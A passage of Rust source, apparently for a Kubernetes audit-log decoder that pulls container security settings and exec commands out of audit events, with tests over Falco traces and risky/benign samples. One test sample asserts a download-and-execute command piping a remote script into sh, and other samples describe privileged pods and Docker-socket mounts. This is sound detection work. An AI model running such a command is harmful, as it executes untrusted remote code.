/// The pod spec a JSON patch writes: what its `add` and `replace` operations put under
/// the pod spec of the target (`/spec` of a Pod, `/spec/template/spec` of a workload,
/// `/spec/jobTemplate/spec/template/spec` of a CronJob).
///
/// An operation that writes a whole container (`.../initContainers/-`) adds it with its
/// role; one that writes inside a container (`.../containers/0/securityContext/privileged`)
/// adds a container without a name that carries just that field, because the patch
/// names the container by index only. Pod-level fields (`hostPID`, `hostNetwork`,
/// `hostIPC`, hostPath `volumes`) land on every container the patch writes, or on one
/// unnamed container when it writes none. Operations this does not understand, and
/// values that do not fit, are skipped: a patch is read for what it can be shown to do.
/// `None` when no operation reaches the pod spec.
fn json_patch_spec<'a>(body: &'a RawValue, at: PodSpecAt) -> Option<RawPodSpec<'a>> {
    let operations: Vec<RawPatchOperation<'a>> = serde_json::from_str(body.get()).ok()?;
    let prefix = match at {
        PodSpecAt::Spec => "/spec/",
        PodSpecAt::Template => "/spec/template/spec/",
        PodSpecAt::JobTemplate => "/spec/jobTemplate/spec/template/spec/",
    };
    let mut spec = RawPodSpec::default();
    let mut written = false;
    for operation in operations {
        let (Some(op), Some(path), Some(value)) = (operation.op, operation.path, operation.value)
        else {
            continue;
        };
        if !matches!(&*op.0, "add" | "replace") {
            continue;
        }
        let Some(rest) = path.0.strip_prefix(prefix) else {
            continue;
        };
        let segments: Vec<&str> = rest.split('/').collect();
        written |= spec.apply(&segments, value.get()).is_some();
    }
    if !written {
        return None;
    }
    let has_container = [
        &spec.containers,
        &spec.init_containers,
        &spec.ephemeral_containers,
    ]
    .into_iter()
    .any(|list| list.as_ref().is_some_and(|l| !l.is_empty()));
    if !has_container {
        spec.containers = Some(vec![RawContainer::default()]);
    }
    Some(spec)
}

impl<'a> RawPodSpec<'a> {
    /// Apply one JSON patch `value` at `path` (the segments below the pod spec); `None`
    /// when the path is not one this reads or the value does not fit.
    fn apply(&mut self, path: &[&str], value: &'a str) -> Option<()> {
        fn read<'a, T: Deserialize<'a>>(value: &'a str) -> Option<T> {
            serde_json::from_str(value).ok()
        }
        match path {
            ["hostPID"] => self.host_pid = Some(read(value)?),
            ["hostNetwork"] => self.host_network = Some(read(value)?),
            ["hostIPC"] => self.host_ipc = Some(read(value)?),
            ["securityContext"] => self.security_context = Some(read(value)?),
            ["volumes"] => self
                .volumes
                .get_or_insert_default()
                .extend(read::<Vec<RawVolume<'a>>>(value)?),
            ["volumes", _] => self.volumes.get_or_insert_default().push(read(value)?),
            [list, rest @ ..] => {
                let containers = match *list {
                    "containers" => &mut self.containers,
                    "initContainers" => &mut self.init_containers,
                    "ephemeralContainers" => &mut self.ephemeral_containers,
                    _ => return None,
                };
                match rest {
                    [] => containers
                        .get_or_insert_default()
                        .extend(read::<Vec<RawContainer<'a>>>(value)?),
                    [_index] => containers.get_or_insert_default().push(read(value)?),
                    [_index, field @ ..] => containers
                        .get_or_insert_default()
                        .push(RawContainer::with_field(field, value)?),
                }
            }
            [] => return None,
        }
        Some(())
    }
}

impl<'a> RawContainer<'a> {
    /// A container with no name that holds one field a JSON patch writes inside it.
    fn with_field(field: &[&str], value: &'a str) -> Option<RawContainer<'a>> {
        fn read<'a, T: Deserialize<'a>>(value: &'a str) -> Option<T> {
            serde_json::from_str(value).ok()
        }
        let mut container = RawContainer::default();
        let security = |s: RawContainerSecurityContext<'a>| Some(s);
        match field {
            ["image"] => container.image = Some(read(value)?),
            ["command"] => container.command = Some(read(value)?),
            ["args"] => container.args = Some(read(value)?),
            ["volumeMounts"] => container.volume_mounts = Some(read(value)?),
            ["volumeMounts", _] => container.volume_mounts = Some(vec![read(value)?]),
            ["securityContext"] => container.security_context = security(read(value)?),
            ["securityContext", "privileged"] => {
                container.security_context = security(RawContainerSecurityContext {
                    privileged: Some(read(value)?),
                    ..RawContainerSecurityContext::default()
                });
            }
            ["securityContext", "runAsUser"] => {
                container.security_context = security(RawContainerSecurityContext {
                    run_as_user: Some(read(value)?),
                    ..RawContainerSecurityContext::default()
                });
            }
            ["securityContext", "capabilities"] => {
                container.security_context = security(RawContainerSecurityContext {
                    capabilities: Some(read(value)?),
                    ..RawContainerSecurityContext::default()
                });
            }
            ["securityContext", "capabilities", "add", rest @ ..] => {
                let add = match rest {
                    [] => read(value)?,
                    [_] => vec![read(value)?],
                    _ => return None,
                };
                container.security_context = security(RawContainerSecurityContext {
                    capabilities: Some(RawCapabilities { add: Some(add) }),
                    ..RawContainerSecurityContext::default()
                });
            }
            _ => return None,
        }
        Some(container)
    }
}

impl<'a> RawPodSpec<'a> {
    fn pod_spec_at(self, at: PodSpecAt) -> Option<RawPodSpec<'a>> {
        match at {
            PodSpecAt::Spec => Some(self),
            PodSpecAt::Template => self.template?.spec.map(|s| *s),
            PodSpecAt::JobTemplate => (*self.job_template?.spec?).pod_spec_at(PodSpecAt::Template),
        }
    }
}

/// A hostPath volume of the pod, and whether any container mounts it.
struct HostVolume<'a> {
    name: Cow<'a, str>,
    path: Cow<'a, str>,
    mounted: bool,
}

/// Every container of a pod spec with the pod-level settings copied onto it.
///
/// `full_object` says the spec is a whole object rather than a patch. `hostPID`,
/// `hostNetwork` and `hostIPC` are plain `bool`s with `omitempty` in the Kubernetes API,
/// so the API server never writes `false`: in a whole object their absence *is* false.
/// In a patch, absence means "not changed" and stays `None`.
///
/// `only_ephemeral` keeps just the ephemeral containers (the `ephemeralcontainers`
/// subresource can change nothing else), while the others still count as mounting
/// their volumes.
fn pod_containers<'a>(
    spec: RawPodSpec<'a>,
    full_object: bool,
    only_ephemeral: bool,
) -> Vec<Container<'a>> {
    let unset = full_object.then_some(false);
    let pod = SecurityContext {
        host_pid: spec.host_pid.or(unset),
        host_network: spec.host_network.or(unset),
        host_ipc: spec.host_ipc.or(unset),
        restart_policy: spec.restart_policy.map(|s| restart_policy(s.0)),
        ..SecurityContext::default()
    };
    let pod_user = spec.security_context.and_then(|s| s.run_as_user);
    let mut host_volumes: Vec<HostVolume<'a>> = spec
        .volumes
        .unwrap_or_default()
        .into_iter()
        .filter_map(|v| {
            Some(HostVolume {
                name: v.name?.0,
                path: v.host_path?.path?.0,
                mounted: false,
            })
        })
        .collect();

    let lists = [
        (spec.containers, ContainerRole::Main),
        (spec.init_containers, ContainerRole::Init),
        (spec.ephemeral_containers, ContainerRole::Ephemeral),
    ];
    let mut out = Vec::new();
    for (list, role) in lists {
        let keep = !only_ephemeral || role == ContainerRole::Ephemeral;
        for raw in list.into_iter().flatten() {
            let container = container(raw, role, &pod, pod_user, &mut host_volumes);
            if keep {
                out.push(container);
            }
        }
    }

    // A hostPath volume no container mounts is still on the node with the pod.
    for volume in host_volumes.iter().filter(|v| !v.mounted) {
        for c in &mut out {
            c.security.host_mounts.push(HostMount {
                host_path: volume.path.clone(),
                container_path: None,
                read_only: false,
            });
        }
    }
    out
}

fn container<'a>(
    raw: RawContainer<'a>,
    role: ContainerRole,
    pod: &SecurityContext<'a>,
    pod_user: Option<i64>,
    host_volumes: &mut [HostVolume<'a>],
) -> Container<'a> {
    let (privileged, user, cap_add) = match raw.security_context {
        Some(s) => (
            s.privileged,
            s.run_as_user,
            s.capabilities
                .and_then(|c| c.add)
                .map(strings)
                .unwrap_or_default(),
        ),
        None => (None, None, Vec::new()),
    };
    let mut host_mounts = Vec::new();
    for mount in raw.volume_mounts.into_iter().flatten() {
        let Some(volume) = mount
            .name
            .as_ref()
            .and_then(|n| host_volumes.iter_mut().find(|v| v.name == n.0))
        else {
            continue;
        };
        volume.mounted = true;
        let host_path = match mount.sub_path.map(|s| s.0).filter(|s| !s.is_empty()) {
            Some(sub) => Cow::Owned(format!("{}/{sub}", volume.path.trim_end_matches('/'))),
            None => volume.path.clone(),
        };
        host_mounts.push(HostMount {
            host_path,
            container_path: mount.mount_path.map(|s| s.0),
            read_only: mount.read_only.unwrap_or(false),
        });
    }
    let restart_policy = match role {
        ContainerRole::Main => pod.restart_policy.clone(),
        ContainerRole::Init => raw.restart_policy.map(|s| restart_policy(s.0)),
        ContainerRole::Ephemeral => None,
    };
    Container {
        id: None,
        name: raw.name.map(|s| s.0),
        image: non_empty(raw.image).map(ImageRef::lenient),
        role,
        security: SecurityContext {
            privileged,
            host_pid: pod.host_pid,
            host_network: pod.host_network,
            host_ipc: pod.host_ipc,
            cap_add,
            security_opt: Vec::new(),
            devices: Vec::new(),
            host_mounts,
            user: user.or(pod_user).map(|u| Cow::Owned(u.to_string())),
            restart_policy,
            entrypoint: raw.command.map(strings),
            command: raw.args.map(strings),
        },
    }
}

fn restart_policy(name: Cow<'_, str>) -> RestartPolicy<'_> {
    RestartPolicy {
        name,
        max_retries: None,
    }
}

fn strings(list: Vec<Str<'_>>) -> Vec<Cow<'_, str>> {
    list.into_iter().map(|s| s.0).collect()
}

/// The exec/attach parameters of a `requestURI` query.
pub(super) struct ExecQuery<'a> {
    /// Every `command=`, in order: the argv of the process to start.
    pub(super) command: Vec<Cow<'a, str>>,
    /// The first `container=`; kubectl repeats it.
    pub(super) container: Option<Cow<'a, str>>,
}

impl<'a> ExecQuery<'a> {
    /// Borrows from the URI when it came unescaped from the record.
    pub(super) fn of(uri: &Cow<'a, str>) -> ExecQuery<'a> {
        match uri {
            Cow::Borrowed(uri) => ExecQuery::parse(uri),
            Cow::Owned(uri) => {
                let query = ExecQuery::parse(uri);
                ExecQuery {
                    command: query
                        .command
                        .into_iter()
                        .map(|c| Cow::Owned(c.into_owned()))
                        .collect(),
                    container: query.container.map(|c| Cow::Owned(c.into_owned())),
                }
            }
        }
    }

    fn parse(uri: &'a str) -> ExecQuery<'a> {
        let mut query = ExecQuery {
            command: Vec::new(),
            container: None,
        };
        for (key, value) in query_pairs(uri) {
            match key {
                "command" => query.command.push(percent_decode(value)),
                "container" if query.container.is_none() => {
                    query.container = Some(percent_decode(value)).filter(|c| !c.is_empty());
                }
                _ => {}
            }
        }
        query
    }
}

/// The process an exec starts: its argv, the executable and the argv joined by spaces.
pub(super) fn process_of(args: Vec<Cow<'_, str>>) -> Option<Process<'_>> {
    let executable = args.first()?.clone();
    let command_line = match args.as_slice() {
        [one] => one.clone(),
        args => Cow::Owned(args.join(" ")),
    };
    Some(Process {
        executable: Some(executable),
        args,
        command_line: Some(command_line),
        ..Process::default()
    })
}

/// `key=value` pairs of the query part of a request URI, values still encoded.
fn query_pairs(uri: &str) -> impl Iterator<Item = (&str, &str)> {
    let query = uri.split_once('?').map_or("", |(_, q)| q);
    let query = query.split_once('#').map_or(query, |(q, _)| q);
    query
        .split('&')
        .filter(|p| !p.is_empty())
        .map(|p| p.split_once('=').unwrap_or((p, "")))
}

/// Whether the query asks for a watch the way the API server reads it: a `watch`
/// parameter whose first value is not `false` or `0`.
pub(super) fn watch_requested(uri: &str) -> bool {
    query_pairs(uri)
        .find(|(key, _)| *key == "watch")
        .is_some_and(|(_, value)| !value.eq_ignore_ascii_case("false") && value != "0")
}

/// `application/x-www-form-urlencoded` decoding: `+` is a space, `%XX` a byte. A `%`
/// not followed by two hex digits is kept as written; bytes that do not form UTF-8 are
/// replaced.
fn percent_decode(value: &str) -> Cow<'_, str> {
    if !value.contains(['%', '+']) {
        return Cow::Borrowed(value);
    }
    let bytes = value.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'+' => out.push(b' '),
            b'%' => match (
                bytes.get(i + 1).and_then(hex),
                bytes.get(i + 2).and_then(hex),
            ) {
                (Some(hi), Some(lo)) => {
                    out.push((hi << 4) | lo);
                    i += 2;
                }
                _ => out.push(b'%'),
            },
            b => out.push(b),
        }
        i += 1;
    }
    match String::from_utf8(out) {
        Ok(s) => Cow::Owned(s),
        Err(e) => Cow::Owned(String::from_utf8_lossy(e.as_bytes()).into_owned()),
    }
}

fn hex(b: &u8) -> Option<u8> {
    char::from(*b)
        .to_digit(16)
        .and_then(|d| u8::try_from(d).ok())
}

#[cfg(test)]
mod tests {
    use std::path::{Path, PathBuf};

    use super::*;

    fn decode_ok(text: &str) -> Decoded<'_> {
        match decode(text) {
            Ok(decoded) => decoded,
            Err(e) => panic!("{e}\n{text}"),
        }
    }

    fn shared_dir() -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/falco-k8s-audit")
    }

    /// The first line of a Falco trace file, or `None` (and a note) when `../shared` is
    /// not checked out next to the project.
    fn falco(file: &str) -> Option<String> {
        let dir = shared_dir();
        if !dir.is_dir() {
            println!("skipped: ../shared not present");
            return None;
        }
        let text = std::fs::read_to_string(dir.join(file)).unwrap();
        Some(text.lines().next().unwrap().to_owned())
    }

    fn sample_lines(name: &str) -> Vec<String> {
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../samples/k8s-audit")
            .join(name);
        let text =
            std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        text.lines().map(str::to_owned).collect()
    }

    fn by_name<'e, 'a>(event: &'e Event<'a>, name: &str) -> &'e Container<'a> {
        event
            .containers
            .iter()
            .find(|c| c.name.as_deref() == Some(name))
            .unwrap_or_else(|| panic!("no container {name} in {:?}", event.containers))
    }

    fn names(event: &Event<'_>) -> Vec<(String, ContainerRole)> {
        event
            .containers
            .iter()
            .map(|c| (c.name.as_deref().unwrap_or("").to_owned(), c.role))
            .collect()
    }

    // ---- Falco's trace files ----

    #[test]
    fn falco_every_file_decodes_or_errors_cleanly() {
        let dir = shared_dir();
        if !dir.is_dir() {
            println!("skipped: ../shared not present");
            return;
        }
        let mut records = 0;
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_none_or(|e| e != "json") {
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            for line in text.lines().filter(|l| !l.trim().is_empty()) {
                records += 1;
                let result = decode(line);
                if path.file_name().unwrap() == "fal_01_003.json" {
                    assert!(result.is_err());
                } else if let Err(e) = result {
                    panic!("{}: {e}", path.display());
                }
            }
        }
        assert!(records >= 47, "{records}");
    }

    #[test]
    fn falco_privileged_pod() {
        let Some(text) = falco("create_nginx_pod_privileged.json") else {
            return;
        };
        let decoded = decode_ok(&text);
        let event = &decoded.event;
        assert!(decoded.evaluate);
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.raw_action, "create");
        let workload = event.workload.as_ref().unwrap();
        assert_eq!(workload.kind, "Pod");
        // From responseObject: the generated name and the uid.
        assert_eq!(
            workload.name.as_deref(),
            Some("nginx-deployment-5cdcc99dbf-rgw6z")
        );
        assert_eq!(workload.namespace.as_deref(), Some("default"));
        assert!(workload.uid.is_some());
        assert_eq!(event.containers.len(), 1);
        let nginx = by_name(event, "nginx");
        assert_eq!(nginx.security.privileged, Some(true));
        assert_eq!(nginx.role, ContainerRole::Main);
        assert_eq!(nginx.image.as_ref().unwrap().repository, "library/nginx");
        let principal = event.principal.as_ref().unwrap();
        assert_eq!(
            principal.name,
            "system:serviceaccount:kube-system:replicaset-controller"
        );
        assert_eq!(principal.source_ip.as_deref(), Some("::1"));
        assert_eq!(event.response_code, Some(201));
    }

    #[test]
    fn falco_privileged_second_container() {
        let Some(text) = falco("create_nginx_pod_privileged_2nd_container.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        assert_eq!(by_name(&event, "nginx1").security.privileged, Some(false));
        assert_eq!(by_name(&event, "mysql").security.privileged, Some(true));
    }

    #[test]
    fn falco_no_security_context_first_privileged_second() {
        let Some(text) =
            falco("create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json")
        else {
            return;
        };
        let event = decode_ok(&text).event;
        assert_ne!(by_name(&event, "nginx1").security.privileged, Some(true));
        assert_eq!(by_name(&event, "mysql").security.privileged, Some(true));
        assert_eq!(
            event
                .containers
                .iter()
                .filter(|c| c.security.privileged == Some(true))
                .count(),
            1
        );
    }

    #[test]
    fn falco_host_network_true_and_absent() {
        let Some(text) = falco("create_nginx_pod_hostnetwork.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        assert_eq!(by_name(&event, "nginx1").security.host_network, Some(true));
        // Host PID was not set: in a whole object that is false (see `pod_containers`).
        assert_eq!(by_name(&event, "nginx1").security.host_pid, Some(false));

        let Some(text) = falco("create_nginx_pod_nohostnetwork.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        assert_eq!(by_name(&event, "nginx1").security.host_network, Some(false));
    }

    #[test]
    fn falco_sensitive_mount() {
        let Some(text) = falco("create_nginx_pod_sensitive_mount.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        let nginx = by_name(&event, "nginx");
        assert_eq!(
            nginx.security.host_mounts,
            vec![HostMount {
                host_path: Cow::Borrowed("/etc"),
                container_path: Some(Cow::Borrowed("/host/etc")),
                read_only: false,
            }]
        );

        let Some(text) = falco("create_nginx_pod_sensitive_mount_2nd_container.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        assert!(by_name(&event, "nginx1").security.host_mounts.is_empty());
        assert_eq!(
            by_name(&event, "mysql").security.host_mounts[0].host_path,
            "/etc"
        );
    }

    #[test]
    fn falco_exec_pod() {
        let Some(text) = falco("exec_pod.json") else {
            return;
        };
        let decoded = decode_ok(&text);
        let event = &decoded.event;
        assert!(
            decoded.evaluate,
            "ResponseStarted of an exec is the stage evaluated"
        );
        assert_eq!(event.action, Action::ContainerExec);
        assert_eq!(event.raw_action, "create");
        let process = event.process.as_ref().unwrap();
        assert_eq!(process.args, vec!["bash"]);
        assert_eq!(process.executable.as_deref(), Some("bash"));
        assert_eq!(process.command_line.as_deref(), Some("bash"));
        assert_eq!(
            names(event),
            vec![("nginx1".to_owned(), ContainerRole::Main)]
        );
        let workload = event.workload.as_ref().unwrap();
        assert_eq!(workload.kind, "Pod");
        assert_eq!(
            workload.name.as_deref(),
            Some("nginx-deployment-7998647bdf-phvq7")
        );
        assert_eq!(event.response_code, Some(101));
        assert_eq!(event.time_ns, Some(1_540_561_114_902_914_000));
    }

    #[test]
    fn falco_attach_pod() {
        let Some(text) = falco("attach_pod.json") else {
            return;
        };
        let decoded = decode_ok(&text);
        assert!(decoded.evaluate);
        assert_eq!(decoded.event.action, Action::ContainerAttach);
        assert!(decoded.event.process.is_none());
        assert_eq!(decoded.event.containers[0].name.as_deref(), Some("nginx1"));
    }

    #[test]
    fn falco_unprivileged() {
        let Some(text) = falco("create_nginx_pod_unprivileged.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        let nginx = by_name(&event, "nginx");
        assert_eq!(nginx.security.privileged, None);
        assert_eq!(nginx.security.host_network, Some(false));
        assert!(nginx.security.host_mounts.is_empty());
        assert!(nginx.security.cap_add.is_empty());
        assert_eq!(
            nginx.security.restart_policy.as_ref().unwrap().name,
            "Always"
        );
    }

    #[test]
    fn falco_malformed_is_a_located_shape_error() {
        let Some(text) = falco("fal_01_003.json") else {
            return;
        };
        match decode(&text) {
            Err(DecodeError::Shape {
                column, message, ..
            }) => {
                assert_eq!(column, 10, "{message}");
                assert!(message.contains("Event"), "{message}");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn falco_delete_deployment_has_no_containers_and_keeps_the_kind() {
        let Some(text) = falco("delete_deployment.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadDelete);
        assert!(event.containers.is_empty());
        let workload = event.workload.unwrap();
        assert_eq!(workload.kind, "Deployment");
        assert_eq!(workload.name.as_deref(), Some("nginx-deployment"));
    }

    #[test]
    fn falco_configmap_create_is_other() {
        let Some(text) = falco("create_configmap.json") else {
            return;
        };
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::Other);
        assert_eq!(event.workload.unwrap().kind, "ConfigMap");
    }

    // ---- samples/k8s-audit ----

    #[test]
    fn risky_samples() {
        let lines = sample_lines("risky.ndjson");
        assert_eq!(lines.len(), 7);
        let decoded: Vec<Decoded<'_>> = lines.iter().map(|l| decode_ok(l)).collect();

        // 1. Privileged pod.
        let event = &decoded[0].event;
        assert!(decoded[0].evaluate);
        assert_eq!(event.action, Action::WorkloadCreate);
        let c = by_name(event, "priv-debug");
        assert_eq!(c.security.privileged, Some(true));
        assert_eq!(c.security.entrypoint, Some(vec![Cow::Borrowed("sleep")]));
        assert_eq!(c.security.command, Some(vec![Cow::Borrowed("infinity")]));
        assert_eq!(c.security.restart_policy.as_ref().unwrap().name, "Never");
        assert_eq!(event.principal.as_ref().unwrap().name, "alice@example.com");
        assert_eq!(event.time_ns, Some(1_715_677_923_531_904_000));

        // 2. Docker socket.
        let event = &decoded[1].event;
        let build = by_name(event, "build");
        assert_eq!(build.security.host_mounts.len(), 1);
        assert_eq!(
            build.security.host_mounts[0].host_path,
            "/var/run/docker.sock"
        );
        assert_eq!(
            build.security.host_mounts[0].container_path.as_deref(),
            Some("/var/run/docker.sock")
        );
        assert_eq!(
            build.image.as_ref().unwrap().tag.as_deref(),
            Some("26.1-cli")
        );
        assert!(build.security.command.as_ref().unwrap()[0].contains("&& docker push"));

        // 3. hostPID + hostNetwork, name generated by the server.
        let event = &decoded[2].event;
        let shell = by_name(event, "shell");
        assert_eq!(shell.security.host_pid, Some(true));
        assert_eq!(shell.security.host_network, Some(true));
        assert_eq!(shell.security.host_ipc, Some(false));
        assert_eq!(shell.security.privileged, None);
        let workload = event.workload.as_ref().unwrap();
        assert_eq!(workload.name.as_deref(), Some("node-shell-8f2kq"));
        assert_eq!(workload.namespace.as_deref(), Some("kube-system"));

        // 4. Deployment with an init container and a native sidecar.
        let event = &decoded[3].event;
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.workload.as_ref().unwrap().kind, "Deployment");
        assert_eq!(
            names(event),
            vec![
                ("web".to_owned(), ContainerRole::Main),
                ("init-setup".to_owned(), ContainerRole::Init),
                ("log-shipper".to_owned(), ContainerRole::Init),
            ]
        );
        assert_eq!(by_name(event, "web").security.user.as_deref(), Some("1000"));
        assert_eq!(
            by_name(event, "web")
                .security
                .restart_policy
                .as_ref()
                .unwrap()
                .name,
            "Always"
        );
        assert_eq!(by_name(event, "init-setup").security.restart_policy, None);
        assert_eq!(
            by_name(event, "log-shipper")
                .security
                .restart_policy
                .as_ref()
                .unwrap()
                .name,
            "Always"
        );

        // 5. CronJob.
        let event = &decoded[4].event;
        assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
        let cleanup = by_name(event, "cleanup");
        assert_eq!(cleanup.security.user.as_deref(), Some("0"));
        assert_eq!(cleanup.security.cap_add, vec!["SYS_ADMIN", "NET_ADMIN"]);
        assert_eq!(
            cleanup.security.restart_policy.as_ref().unwrap().name,
            "OnFailure"
        );
        assert_eq!(
            cleanup.image.as_ref().unwrap().registry,
            "203.0.113.50:5000"
        );

        // 6. and 7. One exec, two stages, one evaluated.
        let (started, complete) = (&decoded[5], &decoded[6]);
        assert_eq!(started.event.request_id, complete.event.request_id);
        assert!(started.evaluate);
        assert!(!complete.evaluate);
        let event = &started.event;
        assert_eq!(event.action, Action::ContainerExec);
        assert_eq!(event.raw_action, "get");
        assert_eq!(event.response_code, Some(101));
        assert_eq!(
            names(event),
            vec![("init-setup".to_owned(), ContainerRole::Main)]
        );
        let process = event.process.as_ref().unwrap();
        assert_eq!(
            process.args,
            vec!["sh", "-c", "curl -fsSL http://203.0.113.50/x.sh | sh"]
        );
        assert_eq!(
            process.command_line.as_deref(),
            Some("sh -c curl -fsSL http://203.0.113.50/x.sh | sh")
        );
        assert_eq!(
            event.principal.as_ref().unwrap().source_ip.as_deref(),
            Some("10.0.12.4")
        );
    }

    #[test]
    fn benign_samples() {
        let lines = sample_lines("benign.ndjson");
        assert_eq!(lines.len(), 4);
        let decoded: Vec<Decoded<'_>> = lines.iter().map(|l| decode_ok(l)).collect();

        let event = &decoded[0].event;
        assert!(decoded[0].evaluate);
        assert_eq!(event.action, Action::WorkloadCreate);
        let nginx = by_name(event, "nginx");
        assert_eq!(nginx.security.privileged, None);
        assert_eq!(nginx.security.user.as_deref(), Some("101"));
        assert!(nginx.security.host_mounts.is_empty());
        assert!(nginx.security.cap_add.is_empty());
        assert_eq!(nginx.security.host_pid, Some(false));
        assert_eq!(
            event.workload.as_ref().unwrap().name.as_deref(),
            Some("nginx-6b7f675859-t5w8r")
        );

        assert_eq!(decoded[1].event.action, Action::ResourceList);
        assert!(decoded[1].evaluate);
        assert_eq!(decoded[1].event.workload.as_ref().unwrap().kind, "Pod");
        assert!(decoded[1].event.workload.as_ref().unwrap().name.is_none());

        assert_eq!(decoded[2].event.action, Action::ResourceGet);
        assert_eq!(
            decoded[2].event.workload.as_ref().unwrap().kind,
            "ConfigMap"
        );

        assert!(!decoded[3].evaluate, "RequestReceived is never evaluated");
        assert_eq!(decoded[3].event.action, Action::Other);
        assert_eq!(decoded[3].event.workload.as_ref().unwrap().kind, "leases");
        assert_eq!(decoded[3].event.response_code, None);
    }

    // ---- inline events ----

    const HEAD: &str =
        r#""kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"a1""#;

    fn event_with(rest: &str) -> String {
        format!("{{{HEAD},{rest}}}")
    }

    #[test]
    fn v1_event_timed_by_request_received_only() {
        let text = event_with(
            r#""stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/secrets/db","verb":"get","user":{"username":"bob","uid":"u-1","groups":["dev","system:authenticated"]},"sourceIPs":["192.0.2.9"],"userAgent":"curl/8.5.0","objectRef":{"resource":"secrets","namespace":"default","name":"db","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":403},"requestReceivedTimestamp":"2024-05-14T09:12:03.512345Z""#,
        );
        let decoded = decode_ok(&text);
        let event = &decoded.event;
        assert!(decoded.evaluate);
        assert_eq!(event.time_ns, Some(1_715_677_923_512_345_000));
        assert_eq!(event.action, Action::ResourceGet);
        assert_eq!(event.request_id.as_deref(), Some("a1"));
        assert_eq!(event.response_code, Some(403));
        let principal = event.principal.as_ref().unwrap();
        assert_eq!(principal.uid.as_deref(), Some("u-1"));
        assert_eq!(principal.groups, vec!["dev", "system:authenticated"]);
        assert_eq!(principal.user_agent.as_deref(), Some("curl/8.5.0"));
        // Strings without escapes are borrowed from the record.
        assert!(matches!(principal.name, Cow::Borrowed(_)));
        assert!(matches!(
            event.workload.as_ref().unwrap().name,
            Some(Cow::Borrowed(_))
        ));
        assert_eq!(event.workload.as_ref().unwrap().kind, "Secret");
    }

    #[test]
    fn stage_decides_evaluation() {
        let with_stage = |stage: &str, verb: &str, sub: &str| {
            let stage = if stage.is_empty() {
                String::new()
            } else {
                format!(r#""stage":"{stage}","#)
            };
            let sub = if sub.is_empty() {
                String::new()
            } else {
                format!(r#","subresource":"{sub}""#)
            };
            let text = event_with(&format!(
                r#"{stage}"verb":"{verb}","objectRef":{{"resource":"pods","namespace":"a","name":"p"{sub}}}"#
            ));
            decode_ok(&text).evaluate
        };
        assert!(!with_stage("RequestReceived", "create", ""));
        assert!(with_stage("ResponseComplete", "create", ""));
        assert!(with_stage("Panic", "create", ""));
        assert!(!with_stage("ResponseStarted", "create", ""));
        assert!(with_stage("", "create", ""), "a missing stage is evaluated");
        assert!(with_stage("ResponseStarted", "create", "exec"));
        assert!(!with_stage("ResponseComplete", "create", "exec"));
        assert!(!with_stage("RequestReceived", "get", "exec"));
        assert!(with_stage("ResponseStarted", "create", "attach"));
        assert!(with_stage("ResponseStarted", "create", "portforward"));
        assert!(!with_stage("ResponseComplete", "create", "portforward"));
        assert!(with_stage("ResponseStarted", "watch", ""));
        assert!(!with_stage("ResponseComplete", "watch", ""));
        assert!(with_stage("ResponseComplete", "get", "log"));
    }

    #[test]
    fn exec_over_websocket_with_percent_encoding() {
        let text = event_with(
            r#""stage":"ResponseStarted","requestURI":"/api/v1/namespaces/prod/pods/web-1/exec?command=sh\u0026command=-c\u0026command=id%20-u\u0026container=init-setup\u0026stdin=true\u0026tty=true","verb":"get","user":{"username":"alice"},"objectRef":{"resource":"pods","namespace":"prod","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101}"#,
        );
        let decoded = decode_ok(&text);
        assert!(decoded.evaluate);
        let event = &decoded.event;
        assert_eq!(event.action, Action::ContainerExec);
        assert_eq!(event.raw_action, "get");
        let process = event.process.as_ref().unwrap();
        assert_eq!(process.args, vec!["sh", "-c", "id -u"]);
        assert_eq!(process.executable.as_deref(), Some("sh"));
        assert_eq!(process.command_line.as_deref(), Some("sh -c id -u"));
        assert_eq!(
            names(event),
            vec![("init-setup".to_owned(), ContainerRole::Main)]
        );
    }

    #[test]
    fn exec_query_borrows_when_nothing_is_escaped() {
        let query = ExecQuery::of(&Cow::Borrowed(
            "/x/exec?command=ls&command=a+b&command=%ZZ&container=c&container=d",
        ));
        assert!(matches!(query.command[0], Cow::Borrowed("ls")));
        assert_eq!(query.command, vec!["ls", "a b", "%ZZ"]);
        assert_eq!(query.container.as_deref(), Some("c"));
        assert_eq!(percent_decode("%E2%9C%93%ff"), "\u{2713}\u{fffd}");
        assert!(process_of(ExecQuery::of(&Cow::Borrowed("/x/attach")).command).is_none());
    }

    fn workload_event(resource: &str, group: &str, verb: &str, request_object: &str) -> String {
        event_with(&format!(
            r#""stage":"ResponseComplete","verb":"{verb}","user":{{"username":"alice"}},"objectRef":{{"resource":"{resource}","namespace":"prod","name":"w","apiGroup":"{group}","apiVersion":"v1"}},"responseStatus":{{"code":201}},"requestObject":{request_object}"#
        ))
    }

